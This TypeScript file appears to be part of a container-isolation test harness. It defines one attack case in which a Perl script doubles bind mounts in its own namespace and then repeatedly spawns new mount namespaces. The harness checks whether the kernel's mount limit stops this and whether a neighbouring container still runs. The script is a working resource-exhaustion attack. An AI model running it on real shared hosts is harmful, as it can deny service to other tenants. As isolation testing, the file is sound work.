/** Class 29: mounts without end; the kernel bounds them for each namespace, by a setting of the machine. */
import type { Attack } from "../attack.ts";
import { perl } from "../perl.ts";

/** A folder bound onto its own children doubles with every round; then all of them are copied again and again. */
const doubler = String.raw`
my ($rounds, $seconds) = @ARGV; my ($none, $made) = ("none\0", 0);
syscall($nr{unshare}, 0x20000) == 0 or die "no mount namespace: $!\n";
system("mount --make-rprivate / && mkdir -p /mnt/double && mount -t tmpfs double /mnt/double");
mkdir "/mnt/double/$_" for 1 .. $rounds;
for my $round (1 .. $rounds) {
  my ($from, $to) = ("/mnt/double\0", "/mnt/double/$round\0");
  last if syscall($nr{mount}, $from, $to, $none, 4096 | 16384, 0) != 0;
}
my $why = $!; open(my $list, "<", "/proc/self/mountinfo") or die; while (<$list>) { $made++ } print "$made $why\n";
for (1 .. 10) { next if fork(); my $end = time + $seconds; while (time < $end) { system("unshare", "--mount", "true") == 0 or last } exit }
1 while wait > 0;`;

const attacks: readonly Attack[] = [
  {
    nr: "29a",
    name: "double one's mounts without end, and copy them",
    expected: "no space left on device at the machine's own bound; the neighbour's container runs meanwhile",
    weakened: null,
    whyNotWeakened: "the bound is the machine's",
    async attempt({ attacker, victim, host, patience }) {
      const allowed = Number((await host("cat /proc/sys/fs/mount-max")).stdout);
      const [{ stdout, stderr }, neighbour] = await Promise.all([
        attacker.root(perl(doubler, 20, 4 * patience), { timeoutMs: 60_000 }),
        victim.docker("run --rm ubuntu true", { timeoutMs: 60_000 }),
      ]);
      const made = Number.parseInt(stdout, 10);
      if (!(made > 0)) throw new Error(stderr);
      return {
        succeeded: made > allowed || neighbour.exitCode !== 0,
        observed: `${stdout} (allowed: ${allowed}); the neighbour's run ended with ${neighbour.exitCode}`,
      };
    },
  },
];
export default attacks;
